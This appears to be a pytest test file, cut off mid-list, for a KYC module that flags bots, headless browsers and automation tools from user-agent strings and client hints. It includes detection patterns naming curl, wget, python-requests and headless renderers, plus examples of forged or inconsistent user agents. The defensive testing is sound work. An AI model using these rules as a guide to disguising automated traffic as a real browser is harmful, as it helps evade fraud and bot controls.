"""Device signals on real user agents: browsers seen in real traffic (fake-useragent's collected
data), the crawler corpus of crawler-user-agents, and user-agents' own test strings."""

from __future__ import annotations

import json
import re
from datetime import datetime, timezone
from importlib import resources

import crawleruseragents
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from user_agents import parse as legacy_parse

from kyc.signals.device import (ENGINELESS_BROWSERS, current_major, device_identifiers, device_signals, locale_region,
                                timezone_country)

BROWSERS = [json.loads(line) for line in
            resources.files("fake_useragent").joinpath("data/browsers.jsonl").read_text().splitlines()]
REAL_UAS = sorted({b["useragent"].strip('"') for b in BROWSERS})
CRAWLERS = sorted({ua for entry in crawleruseragents.CRAWLER_USER_AGENTS_DATA for ua in entry.get("instances", [])})
AT = datetime(2026, 11, 24, tzinfo=timezone.utc)
CHROME_WIN = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/131.0.0.0 Safari/537.36")


def test_corpora_are_large():
    assert len(REAL_UAS) > 500 and len(CRAWLERS) > 1500


def test_no_real_browser_is_called_a_bot_headless_or_non_browser():
    flagged = [ua for ua in REAL_UAS
               if (f := device_signals(ua, None))["bot"] or f["headless"] or f["non_browser"]]
    assert flagged == []


def test_device_class_agrees_with_the_corpus_labels():
    agree = sum(device_signals(b["useragent"].strip('"'), None)["class"] == b["type"] for b in BROWSERS)
    assert agree / len(BROWSERS) > 0.98


def test_same_browser_os_and_version_as_user_agents_legacy_parser():
    for ua in REAL_UAS[:300]:
        facts, legacy = device_signals(ua, None), legacy_parse(ua)
        assert facts["browser"] == legacy.browser.family, ua
        assert facts["os"] == legacy.os.family, ua
        if legacy.browser.version and isinstance(legacy.browser.version[0], int):
            assert facts["browser_major"] == legacy.browser.version[0], ua


def test_most_crawlers_are_bots_and_nearly_all_are_bots_or_non_browsers():
    facts = [device_signals(ua, None) for ua in CRAWLERS]
    bots = sum(f["bot"] for f in facts)
    either = sum(f["bot"] or f["non_browser"] for f in facts)
    # user-agents alone (is_bot: ua-parser's Spider family) finds far fewer.
    legacy = sum(legacy_parse(ua).is_bot for ua in CRAWLERS)
    assert bots / len(CRAWLERS) > 0.8 and either / len(CRAWLERS) > 0.93
    assert bots > legacy * 1.3


@pytest.mark.parametrize("ua, marker", [
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 "
     "Safari/537.36", "headlesschrome"),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
     "phantomjs"),
    ("python-requests/2.31.0", "python-requests"),
    ("curl/8.5.0", "curl"),
    ("Go-http-client/1.1", "go-http-client"),
    ("Wget/1.21.4", "wget"),
    ("okhttp/4.12.0", "okhttp"),
    # QtWebKit headless renderers: Scrapy's Splash and wkhtmltopdf's wkhtmltoimage
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) splash Version/9.0 Safari/602.1",
     "splash"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) wkhtmltoimage Safari/538.1", "wkhtmlto"),
])
def test_automation_markers_that_user_agents_misses(ua, marker):
    assert legacy_parse(ua).is_bot is False          # the gap this signal closes
    facts = device_signals(ua, None)
    assert facts["headless"] is True and facts["bot"] is True and facts["class"] == "bot"
    assert facts["automation"] == marker


def test_a_phone_model_named_like_a_headless_renderer_is_still_a_browser():
    phone = ("Mozilla/5.0 (Linux; Android 10; Splash Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/131.0.6778.135 Mobile Safari/537.36")
    facts = device_signals(phone, None)
    assert facts["real_browser"] is True and not facts["headless"] and not facts["bot"]


def test_crawler_corpus_automation_tools_are_marked():
    tools = [ua for ua in CRAWLERS if ua.lower().startswith(("curl/", "python-requests", "go-http-client",
                                                             "wget/", "okhttp", "python-urllib"))]
    assert tools and all(device_signals(ua, None)["headless"] for ua in tools)


def test_browser_age_follows_the_release_cadence():
    assert current_major("Chrome", datetime(2024, 11, 12).date()) == 131      # Chrome 131: 12 Nov 2024
    assert current_major("Firefox", datetime(2024, 11, 26).date()) == 133     # Firefox 133: 26 Nov 2024
    fresh = device_signals(CHROME_WIN, None, at=datetime(2024, 11, 20, tzinfo=timezone.utc))
    stale = device_signals(CHROME_WIN, None, at=AT)
    assert fresh["browser_versions_behind"] == 0
    assert stale["browser_versions_behind"] >= 25
    assert "browser_versions_behind" not in device_signals("curl/8.5.0", None, at=AT)


def test_client_hints_contradicting_the_user_agent():
    honest = {"sec-ch-ua": '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"',
              "sec-ch-ua-platform": '"Windows"', "sec-ch-ua-mobile": "?0"}
    facts = device_signals(CHROME_WIN, None, client_hints=honest)
    assert (facts["hints_platform_mismatch"], facts["hints_mobile_mismatch"], facts["hints_browser_mismatch"]) == \
        (False, False, False)
    linux_hints = {k: v for k, v in honest.items() if k != "sec-ch-ua-platform"}
    linux = device_signals(CHROME_WIN, None, client_hints={**linux_hints, "Sec-CH-UA-Platform": '"Linux"'})
    assert linux["hints_platform_mismatch"] is True
    mobile = device_signals(CHROME_WIN, None, client_hints={**honest, "sec-ch-ua-mobile": "?1"})
    assert mobile["hints_mobile_mismatch"] is True
    older = device_signals(CHROME_WIN, None, client_hints={**honest, "sec-ch-ua": '"Google Chrome";v="120"'})
    assert older["hints_browser_mismatch"] is True
    firefox = next(ua for ua in REAL_UAS if "Firefox/" in ua and "Windows" in ua)
    assert device_signals(firefox, None, client_hints=honest)["hints_browser_mismatch"] is True
    headless = device_signals(CHROME_WIN, None, client_hints={"sec-ch-ua": '"HeadlessChrome";v="131"'})
    assert headless["headless"] is True and headless["bot"] is True


@pytest.mark.parametrize("zone, country", [
    ("America/New_York", "US"), ("Europe/Berlin", "DE"), ("Asia/Kolkata", "IN"),
    ("Asia/Calcutta", "IN"),                  # a backward link, resolved
    ("US/Eastern", "US"), ("Europe/Kyiv", "UA"), ("Etc/UTC", None), ("Mars/Olympus", None), ("", None),
])
def test_timezone_country_from_tzdata(zone, country):
    assert timezone_country(zone) == country


@pytest.mark.parametrize("locale, region", [
    ("en-US", "US"), ("pt_BR", "BR"), ("zh-Hant-TW", "TW"), ("en_GB.UTF-8", "GB"), ("de", None),
    ("es-419", None), ("not a locale", None), ("", None),
])
def test_locale_region(locale, region):
    assert locale_region(locale) == region


def test_form_fill_time_and_missing_user_agent():
    assert device_signals(None, 800) == {"ua_missing": True, "form_fill_ms": 800}
    assert device_signals("", None) == {"ua_missing": True}


@pytest.mark.parametrize("junk", ["", "\x00\x01", "a" * 1024, "Mozilla/5.0 (", "()()()", "😀" * 50])
def test_malformed_input_never_raises(junk):
    facts = device_signals(junk, -5, client_hints={"sec-ch-ua": junk, 3: None, "sec-ch-ua-mobile": junk},
                           timezone=junk, locale=junk, at=AT)
    assert "form_fill_ms" not in facts
    assert isinstance(facts, dict)


def test_device_identifier():
    assert device_identifiers("dv_1") == [("device", "dv_1")]
    assert device_identifiers(None) == device_identifiers("") == []


# --- the positive model of a browser --------------------------------------------------------------

JAN_2026 = datetime(2026, 1, 1, 12, tzinfo=timezone.utc)
OLD_BUT_REAL = {
    "Firefox ESR 115": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "iPhone on iOS 12": "Mozilla/5.0 (iPhone; CPU iPhone OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                        "Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1",
    "iPad on iOS 9": "Mozilla/5.0 (iPad; CPU OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) "
                     "Version/9.0 Mobile/13G36 Safari/601.1",
    "Samsung smart TV": "Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "SamsungBrowser/2.2 Chrome/63.0.3239.84 TV Safari/537.36",
    "LG smart TV": "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 "
                   "Safari/537.36 WebAppManager",
    "Chrome 109 pinned on Windows 7": "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                      "Chrome/109.0.0.0 Safari/537.36",
    "Chromebook kiosk": "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/103.0.0.0 Safari/537.36",
    "Internet Explorer 11": "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "legacy Edge": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/70.0.3538.102 Safari/537.36 Edge/18.19582",
    "Opera Mini on a feature phone": "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
    "Kindle Fire": "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/124.4.1 like "
                   "Chrome/124.0.6367.219 Safari/537.36",
    "iOS 26 Safari (OS frozen at 18_6)": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 "
                                         "(KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
    "Facebook in-app browser": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
                               "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.38.108;FBDV/iPhone14,5;FBSV/17.4]",
    "Facebook in-app browser on an early iPad": "Mozilla/5.0 (iPad; U; CPU iPhone OS 4_3_5 like Mac OS X; de_DE) "
                                                "AppleWebKit (KHTML, like Gecko) Mobile [FBAN/FBForIPhone;FBAV/4.0.3]",
    "an app's Android WebView after the app's name": "Job Search/24.4.0 Mozilla/5.0 (Linux; Android 14; SM-S918U "
                                                     "Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                                                     "Version/4.0 Chrome/122.0.6261.119 Mobile Safari/537.36",
    "a Cubot phone (a brand, not a bot)": "Mozilla/5.0 (Linux; Android 8.0.0; CUBOT_P20) AppleWebKit/537.36 (KHTML, "
                                          "like Gecko) Chrome/70.0.3538.110 Mobile Safari/537.36",
    "Lynx, a text browser": "Lynx/2.9.0dev.6 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1j-dev",
    "UC Browser on a Symbian phone": "UCWEB/2.0 (Symbian; U; S60 V5; en-US; Nokia5250) U2/1.0.0 UCBrowser/8.9.0.277 "
                                     "U2/1.0.0 Mobile",
    "Nokia's WAP browser": "Nokia6280/2.0 (03.60) Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "Mozilla suite 1.7": "Mozilla/5.0 (Macintosh; U; PPC Mac OS X Mach-O; en-US; rv:1.7.12) Gecko/20050915",
    "Firefox 78 on Android (Gecko/ names the version)": "Mozilla/5.0 (Android 9; Mobile; rv:78.0) Gecko/78.0 "
                                                        "Firefox/78.0",
    "Safari 5.1 on Windows": "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534.57.2 (KHTML, like Gecko) "
                             "Version/5.1.7 Safari/534.57.2",
    "Firefox 4 (rv:2.0; rv follows the version from 5)": "Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 "
                                                         "Firefox/4.0",
    "Pale Moon on Goanna, Gecko's fork": "Mozilla/5.0 (X11; Linux x86_64; rv:3.0) Goanna/20170207 PaleMoon/27.1.0",
    "Pale Moon numbering its own Firefox token": "Mozilla/5.0 (Windows NT 5.1; rv:2.0) Gecko/20110407 Firefox/4.0.3 "
                                                 "PaleMoon/4.0.3",
    "a WebKit build ua-parser has no name for (ABrowse on Syllable)": "Mozilla/5.0 (compatible; U; ABrowse 0.6; "
                                                                      "Syllable) AppleWebKit/420+ (KHTML, like Gecko)",
    "an iPhone app writing its own WebKit string (no Mobile/)": "Mozilla/5.0 (iPhone; CPU iPhone OS 11_2_6 like Mac OS X) "
                                                               "AppleWebKit/604.5.6 (KHTML, like Gecko) "
                                                               "Snapchat/10.38.0.25 (iPhone8,1; iOS 11.2.6; gzip)",
    "a vendor's token on Chrome 30 (Nokia X)": "Mozilla/5.0 (Linux; Android 4.1.2; Nokia_X Build/JZO54K) AppleWebKit/537.36 "
                                              "(KHTML, like Gecko) Chrome/30.0.1599.82 Mobile Safari/537.36 "
                                              "NokiaBrowser/1.2.0.12",
    "an app's product token before the browser's string, not a WebView (QQ on iOS 6)":
        "MQQBrowser/39 Mozilla/5.0 (iPhone 4S; CPU iPhone OS 6_0_1 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) "
        "Mobile/10A523 Safari/7534.48.3",
    "a feature phone's UC engine in its own form": "M4A1-WAPCHOI/2.0 (Java; U; MIDP-2.0; vi; NokiaC5-00.2) WAPCHOI/1.0.0 "
                                                   "UCPro/9.4.1.377 U2/1.0.0 Mobile UNTRUSTED/1.0 3gpp-gba",
    "UC's own form on an iPhone, whose WebKit token comes first": "UCWEB/3.0 (iPhone; CPU OS_6; en-US)AppleWebKit/534.1 "
                                                                  "U3/3.0.0 Mobile",
    "an in-app browser's bracketed comment after a current Chrome's last token":
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
        "Mobile Safari/537.36 [SomeApp/Android]",
    "an AmigaOS browser in its own form": "AmigaVoyager/3.2 (AmigaOS/MC680x0)",
    "an AmigaOS browser in the compatible form": "Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)",
    "an AmigaOS browser as Mozilla/6.0 and MSIE": "Mozilla/6.0 (compatible; MSIE 7.01; Amiga-AWeb)",
    "the iPad of iOS 3.2, no space after Mozilla/5.0": "Mozilla/5.0(iPad; U; CPU iPhone OS 3_2 like Mac OS X; en-us) "
                                                       "AppleWebKit/531.21.10 (KHTML, like Gecko) Version/4.0.4 "
                                                       "Mobile/7B314 Safari/531.21.10",
    "Firefox 3 with a .NET comment": "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.5) Gecko/2008120122 "
                                     "Firefox/3.0.5 (.NET CLR 3.5.30729)",
    # kinds Device Detector's corpus showed kyc refusing (bench/ua_corpora.py, its tuning half)
    "a feature phone's Openwave browser": "SIE-S55/16 UP.Browser/6.1.0.5.c.4 (GUI) MMP/1.0 UP.Link/5.1.2.10",
    "a feature phone's MediaTek MAUI browser": "Micromax X246/Q03C MAUI-Browser Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "a feature phone's WAP browser naming itself one": "lephone K10/Dorado WAP-Browser/1.0.0",
    "a feature phone's browser next to its J2ME virtual machine (Java/ASVM, not the JDK's client)":
        "Mozilla/4.0 (Vodafone/1.0/LG-GU280/v10a Browser/Obigo-Q7.3 MMS/LG-MMS-V1.0/1.2 Java/ASVM/1.1 "
        "Profile/MIDP-2.1 Configuration/CLDC-1.1)",
    "a Palm OS browser (its system's only web client)": "Mozilla/5.0 [en] (PalmOS; U; WebPro/3.5; Palm-Zi72)",
    "a TD-SCDMA phone's carrier form": "OPPO_R821T/1.0 Linux/3.4.5 Android/4.2.2 Release/03.26.2013 "
                                       "Browser/AppleWebKit534.30 Mobile Safari/534.30 MBBMS/2.2 System/Android 4.2.2;",
    "an HbbTV television": "HbbTV/1.2.1 (;Philips;MT5580;;;) ANTGalio/3.3.0.26.04",
    "a Windows Mobile phone naming itself before IE's form": "HTC_Touch_3G_T3232 Mozilla/4.0 (compatible; MSIE 6.0; "
                                                             "Windows CE; IEMobile 7.11)",
    "a signage player naming itself before Chromium's form": "BrightSign/8.0.48 (LS424-W)Mozilla/5.0 (X11; Linux aarch64) "
                                                            "AppleWebKit/537.36 (KHTML, like Gecko) QtWebEngine/5.11.2 "
                                                            "Chrome/65.0.3325.230 Safari/537.36",
    "a TV platform's tokens before the browser's form": "Opera/9.80 NETTV/4.5.0 Mozilla/5.0 (Linux armv7i; CE-HTML/1.0; "
                                                        "U; en) AppleWebKit/537.36 (KHTML, like Gecko) "
                                                        "Chrome/49.0.2623.75 Safari/537.36 Tbrowser/2.0",
    "an app's Android WebView with the app's tokens after it": "Mozilla/5.0 (Linux; Android 10; BQ-6045L "
                                                               "Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like "
                                                               "Gecko) Version/4.0 Chrome/81.0.4044.138 Mobile "
                                                               "Safari/537.36 YandexSearch/7.52 YandexSearchBrowser/7.52",
    "a phone model with 'bot' in its name": "Mozilla/5.0 (Linux; Android 7.0; M bot 51) AppleWebKit/537.36 (KHTML, like "
                                            "Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36",
    "a phone model named Ruby (not the language's HTTP client)": "Mozilla/5.0 (Linux; Android 8.1.0; RUBY "
                                                                 "Build/OPM2.171019.012) AppleWebKit/537.36 (KHTML, like "
                                                                 "Gecko) Chrome/110.0.5481.153 Mobile Safari/537.36",
    "a KaiOS phone (device after rv:)": "Mozilla/5.0 (Mobile; rv:48.0; A405DL) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
    "Chrome naming the Linux distribution": "Mozilla/5.0 (X11; Fedora; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
                                            "Gecko) Chrome/98.0.4758.121 Safari/537.36",
    "an embedded Chrome on a TV (`(Linux;)`)": "Mozilla/5.0 (Linux;) AppleWebKit/537.36 (KHTML, like Gecko) "
                                              "Chrome/47.0.2526.106 Safari/537.36 SRAF/4.0 (; SERAPHIC; SERAPHIC; v4.0; "
                                              "v1.0; ); CE-HTML/1.0 hbbtv NETRANGEMMH",
    "a smart TV's Chrome on ARM naming the TV after Chrome's last token":
        "Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.124 Safari/537.36 "
        "CrKey/1.0.999999 VIZIO SmartCast(Conjure/MTKC-108.710.14 FW/1.710.30.2-1 Model/V435-J01) CrKey/1.56.500000",
    "a Nest Hub (Fuchsia)": "Mozilla/5.0 (Fuchsia) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 "
                            "Safari/537.36 CrKey/1.56.500000",
    "Android's stock browser on a console (Version/4.0 Safari/, no Mobile)":
        "Mozilla/5.0 (Linux; U; Android OUYA 4.1.2; en-us; OUYA Build/JZO54L-OUYA) AppleWebKit/534.30 (KHTML, like "
        "Gecko) Version/4.0 Safari/534.30",
    "GNOME Web (WebKit's own Version/ Safari/ form on Linux)": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 "
                                                               "(KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    # kinds found by writing real browsers' strings from other families and eras than the corpora's tuning halves
    "GNOME Web on a distribution ua-parser names (Ubuntu)": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64) "
                                                            "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 "
                                                            "Safari/605.1.15",
    "GNOME Web on FreeBSD": "Mozilla/5.0 (X11; FreeBSD amd64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 "
                            "Safari/605.1.15",
    "Netscape Navigator 4 (no engine token: it was the Mozilla)": "Mozilla/4.8 [en] (Windows NT 5.1; U)",
    "Netscape Navigator 3 on a Mac": "Mozilla/3.01 (Macintosh; I; PPC)",
    "Netscape Navigator 4 on Linux": "Mozilla/4.79 [en] (X11; U; Linux 2.4.18 i686)",
    "a Chromium browser's own token after Chrome's grammar": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                                            "(KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36 "
                                                            "Kinza/7.4.1",
    "a car's browser naming its firmware after Chrome's grammar": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 "
                                                                 "(KHTML, like Gecko) Chrome/102.0.5005.61 Safari/537.36 "
                                                                 "Tesla/2022.40.25.4-c2f2b1b6ffc8",
    "an Android app's name after Chrome Mobile's grammar": "Mozilla/5.0 (Linux; Android 12; SO-54C) AppleWebKit/537.36 "
                                                          "(KHTML, like Gecko) Chrome/100.0.4896.127 Mobile Safari/537.36 "
                                                          "RakutenWebsearch/5.100.07",
    "the new Outlook's WebView after Edge's grammar": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                                     "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0 "
                                                     "OneOutlook/1.2023.1117.300",
    "a vendor's token after current Firefox's grammar": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) "
                                                     "Gecko/20100101 Firefox/128.0 Floorp/11.19.1",
    "a vendor's token after current desktop Safari's grammar": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) "
                                                              "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 "
                                                              "Safari/605.1.15 Orion/0.99.125",
    "Firefox on an iPad asking for desktop sites (a Mac's platform, its FxiOS token)":
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/119.0 "
        "Safari/605.1.15",
    "Internet Explorer 5 for Mac": "Mozilla/4.0 (compatible; MSIE 5.23; Mac_PowerPC)",
    "Internet Explorer 5 for UNIX on Solaris": "Mozilla/4.0 (compatible; MSIE 5.0; SunOS 5.9 sun4u; X11)",
    "a WebTV set-top box's Internet Explorer": "Mozilla/4.0 WebTV/2.6 (compatible; MSIE 4.0)",
    "Servo writing Firefox's form with its own engine token": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Servo/1.0 "
                                                              "Firefox/128.0",
    "Ladybird on its own engine, LibWeb": "Mozilla/5.0 (Linux; x86_64) LibWeb+LibJS/1.0 Ladybird/1.0",
    "Ladybird naming only itself": "Mozilla/5.0 (Linux; x86_64) Ladybird/1.0",
    "an early Servo build on a Mac": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:37.0) Servo/1.0 Firefox/37.0",
    "Konqueror before it wrote its KHTML engine's token": "Mozilla/5.0 (compatible; Konqueror/3.1; Linux)",
    "iCab 3 on its own engine, in its own form": "iCab/3.0.5 (Macintosh; U; PPC Mac OS X)",
    "iCab 3 on its own engine, in the Mozilla form": "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; de-de) iCab/3.0.2",
    "HarmonyOS NEXT's ArkWeb on a phone (its token and device class after Chrome's grammar)":
        "Mozilla/5.0 (Phone; OpenHarmony 4.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 "
        "ArkWeb/4.1.6.1 Mobile",
    "Huawei's browser on ArkWeb, its product token after ArkWeb's":
        "Mozilla/5.0 (Phone; OpenHarmony 5.0; HarmonyOS 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 "
        "Safari/537.36 ArkWeb/4.1.6.1 Mobile HuaweiBrowser/5.0.4.300",
    "ArkWeb on a PC (no device class)": "Mozilla/5.0 (PC; OpenHarmony 5.0; HarmonyOS 5.0) AppleWebKit/537.36 "
                                       "(KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1",
    "an app's WebView on Android 4.1 (the stock browser's form) with the app's name after it":
        "Mozilla/5.0 (Linux; U; Android 4.1.1; ru-ru; RMD_600 Build/JRO03C) AppleWebKit/534.30 (KHTML, like Gecko) "
        "Version/4.0 Mobile Safari/534.30 YandexSearch/7.16",
}


@pytest.mark.parametrize("name", sorted(OLD_BUT_REAL))
def test_old_but_real_browsers_are_real_browsers(name):
    facts = device_signals(OLD_BUT_REAL[name], None, at=JAN_2026)
    assert facts["real_browser"] is True and "browser_mismatch" not in facts, name


@pytest.mark.parametrize("ua, reason", [
    # Safari's Version/ token on Windows: Apple's Safari runs on Apple systems only
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
     "Safari/605.1.15", "os"),
    # an iOS browser's token on a Mac's platform that is not the iPad's desktop form (not 10_15, or not iOS's WebKit)
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/119.0 "
     "Safari/605.1.15", "os"),
    # Blink on an iPhone: every iOS browser is WebKit (Chrome there says CriOS)
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/126.0.0.0 Mobile Safari/537.36", "engine"),
    # desktop Chrome whose platform comment carries a tool's word (before it, or after the system)
    ("Mozilla/5.0 (X11; Linux x86_64; Rigor) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.106 "
     "Safari/537.36", "tokens"),
    ("Mozilla/5.0 (iplabel; Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.75 "
     "Safari/537.36", "tokens"),
    # Firefox whose rv: is not its version
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/128.0", "engine"),
    # Safari 17 on an old WebKit build
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Version/17.4 "
     "Safari/537.36", "engine"),
    # iOS Safari whose version is not its iOS's
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/12.0 Mobile/15E148 Safari/604.1", "engine"),
    # a build number Chrome 44 never had (a generator's random digits)
    ("Mozilla/5.0 (Linux; Android 5.0; SM-G900P Build/LRX21T) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/44.0.5213.1363 Mobile Safari/537.36", "engine"),
    # Chromium Edge on another Chromium
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 "
     "Safari/537.36 Edg/124.0.0.0", "engine"),
    # an iPhone without its Mobile token
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.5 Safari/604.1", "mobile"),
    # a tool's word after a current Chrome's last token (Lighthouse audits, synthetic monitors, agents)
    ("Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/136.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse", "tokens"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 "
     "Safari/537.36; Manus-User/1.0", "tokens"),
    # a tool's product token there: it names what the tool does, or carries the tool's address
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36 CookieHubScan/3.0", "tokens"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.26 Safari/537.36 "
     "TestLocally/1.0", "tokens"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 "
     "Safari/537.36 CloudflareObservatory/1.0", "tokens"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 "
     "Scope3/2.0 (scope3.com)", "tokens"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.7204.168 Safari/537.36 "
     "DatadogSynthetics", "tokens"),
    # ArkWeb's grammar is its token and a device class, not any bare word after it
    ("Mozilla/5.0 (Phone; OpenHarmony 4.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 "
     "ArkWeb/4.1.6.1 Mobile SiteAudit", "tokens"),
    ("Mozilla/5.0 (Phone; OpenHarmony 4.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 "
     "ArkWeb/4.1.6.1 Desktop", "tokens"),
    # vendors add one or two product tokens; a run of them is read no further than three
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36" + " Kinza/7.4.1" * 4, "tokens"),
    # a word inside WebKit's own (KHTML, like Gecko) comment
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Search Console) "
     "Chrome/41.0.2272.118 Safari/537.36", "tokens"),
    # a monitor's name in Firefox's comment after rv: (on Gecko or Servo)
    ("Mozilla/5.0 (X11; Linux x86_64; rv:45.0; Rigor) Gecko/20100101 Firefox/45.0", "tokens"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0; Rigor) Servo/1.0 Firefox/128.0", "tokens"),
    # Internet Explorer 6 and later ran on Windows only (IE for Mac and for UNIX ended with 5)
    ("Mozilla/4.0 (compatible; MSIE 6.0; Mac_PowerPC)", "os"),
    ("Mozilla/5.0 (compatible; MSIE 10.0; Macintosh; Intel Mac OS X 10_7_3; Trident/6.0)", "os"),
